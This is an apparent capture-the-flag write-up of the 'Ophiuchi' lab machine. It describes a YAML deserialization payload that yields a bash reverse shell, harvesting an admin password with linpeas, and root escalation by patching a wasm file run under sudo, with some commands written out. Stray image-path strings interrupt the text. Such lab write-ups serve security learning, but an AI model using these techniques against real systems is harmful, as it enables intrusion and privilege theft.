In this post, i would like to share a walkthrough of the Ophiuchi Machine.

This room has been considered difficulty rated as a MEDIUM machine

Once we have started the VPN connection, we can start the information gathering on the machine by executing the command nmap -sC -sV <IP Address> -PN

Information Gathering on Ophiuchi

Let’s open the browser and straight into the website interface.

We have the online yaml parser, but we cannot do anything here yet. Let’s run the gobuster in case we find anything useful there.

While gobuster is running, let’s move on to the next step by finding what is yaml-payload exploit is. We found this page and let’s download it on our machine.

We found one article that might be useful to us in the later activity

What we can do next is modify the that stored in yaml-payload/src/artsploit directory

We also need to save thebash reverse shell on the directory so that we can use it later.

While modifying the file, let’s check on the gobuster result whether there’s any interesting found there.

We will have to compile the java file by using javac command but sadly it doesn’t work without the sudo

It works!

The result will look something such to the screenshot above.

Let’s compile everything into .jar file format with the command jar -cvf yaml-payload.jar src/ .

As usual, it needs sudo

Once it has completed the compilation, it will look exactly like the screenshot above.

Let’s run the python server to transfer the file so that we can execute the nc listener

We also need to start the nc listener for us to get the reverse shell connection back to us.

Playing the online yaml parser

For everything to happen smoothly, we need to try the command above for it to execute well.

The error above shows that we missed any lines on the command. However, let’s try again with the same step as above.

The transfer is working as i planned

We got the reverse shell connection back to us. So, let’s get the user flag on /home/admin

Sadly, we don’t have permission to read the user flag yet.

Enumerate with the linpeas on Ophiuchi machine

Let’stransfer the into the target’s machine

Once we have successfully transferred it, we need to give permission of to chmod +x

On the result, we found the password of username= admin. Let’s key-in the password we found here to get admin privileges and access

We successfully have login as admin, and we can read the user flag that stored at /home/admin/ directory

Escalate to Root Privileges Access on the Ophiuchi machine

Let’s escalate from user admin to root but we need to see anything that we can use by executing sudo -l.

I stuck from here onwards and get some advice around. Thanks to P3R5EU5 that have guided me along the way

Let’s research the .go file on the internet and we found an article under webassembly

On the website, it said as follows:

WebAssembly encodes a low-level, assembly-like programming language. This language is structured around the following concepts

We can seethe source code by executing cat /opt/wasm-functions/index.go

I need to transfer main.wasm file on the same directory to our own machine to decode it

We have two options to decode this either using command or browser which i will use the browser instead here.

We need to upload the main.wasm to modify the file from (i32.const. 0)) to (i32.const. 1))

We need to copy-paste the wasm file that we manage to modify to this website and download the test.wasm file into our machine. Now, we need to transfer the main.wasm into the target’s machine by using python3 -m http.server 4444For us transferring the file into the target’smachine, we can use the command wget http://<ip address>:<port>/main.wasm

We need to give execute permission to the main.wasm

We need to move the file to /home/admin by mv /dev/shm/main.wasm .

Asidefrom that, we also needto create where i have included cat /root/root.txt

We also can use the command sudo /usr/bin/go run /opt/wasm-functions/index.goHappy Learning Guys!